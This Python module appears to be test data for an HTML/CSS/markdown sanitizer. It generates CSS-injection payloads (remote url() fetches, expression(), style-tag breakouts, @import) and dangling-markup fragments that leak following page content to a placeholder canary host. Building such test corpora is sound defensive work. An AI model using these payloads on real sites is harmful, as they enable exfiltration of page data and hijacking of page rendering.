"""Styles, and markup that is left open, so that what follows belongs to it."""

from __future__ import annotations

from itertools import product

from .signs import CANARY, FETCH

_DECLARED = (
    *(
        "position:fixed;inset:0",
        f"background:url({FETCH})",
        f"background:image-set('{FETCH}' 1x)",
        "width:expression(alert(1))",
    ),
    *(
        "-moz-binding:url(x)",
        "behavior:url(x)",
        f"list-style:url({FETCH})",
        f"--x:url({FETCH});background:var(--x)",
        "display:none",
    ),
    *(
        f"content:url({FETCH})",
        f"b\\61 ckground:url({FETCH})",
        "position:&#102;ixed",
        f"/**/background:/**/url({FETCH})",
    ),
    *(
        "text-align:center;position:fixed",
        "text-align:left}}*{{display:none",
        "text-align:&#108;eft;}",
        "all:initial",
        "zoom:99",
    ),
)
STYLES = (
    *(f"<p style='{one}'>x</p>" for one in _DECLARED),
    *(f"x\n{{: style='{one}' }}" for one in _DECLARED),
    *(f"<style>*{{{one}}}</style>" for one in _DECLARED),
    *(f"</style><style>{one}" for one in _DECLARED),
    *(f"}}{one}}}*{{{one}" for one in _DECLARED),
    *(f"<svg><style>*{{{one}}}</style></svg>" for one in _DECLARED),
    *(
        f"<link rel='{rel}' href='{FETCH}'>"
        for rel in ("stylesheet", "preconnect", "dns-prefetch", "modulepreload", "icon", "manifest")
    ),
    *(
        f"@import '{FETCH}';",
        f"@import url({FETCH})",
        "@charset 'utf-7';",
        "@font-face{src:url(//canary.example/x)}",
        "<!--{}*{display:none}",
    ),
)
DANGLING = tuple(
    form.format(address)
    for address, form in product(
        (f"//{CANARY}/?", f"https://{CANARY}/?x="),
        (
            *(
                "<img src='{0}",
                '<img src="{0}',
                "<a href='{0}",
                '<a href="{0}',
                "<base target='{0}",
                "<base href='{0}",
            ),
            *(
                "<form action={0}><input type=hidden name=x value='",
                "<form action='{0}'><textarea name=x>",
                "<button form=x formaction='{0}",
            ),
            *(
                "<link rel=stylesheet href='{0}",
                "<meta http-equiv=refresh content='0;url={0}",
                "<iframe src='{0}",
                "<iframe name='{0}",
            ),
            *(
                "<video src='{0}",
                "<audio src='{0}",
                "<input type=image src='{0}",
                "<object data='{0}",
                "<embed src='{0}",
                "<svg><image href='{0}",
            ),
            *(
                "<table background='{0}",
                "<form action={0}><select name=x><option>",
                "<img srcset='{0} 1x, ",
                "<p title='{0}",
                "<!-- {0}",
            ),
            *(
                "<?x {0}",
                "<!x {0}",
                "<![CDATA[{0}",
                "</x {0}",
                "<x y=`{0}",
                "[x]({0}",
                "![x](<{0}",
                "[x]: <{0}",
                "<img src={0}\n",
            ),
        ),
    )
)
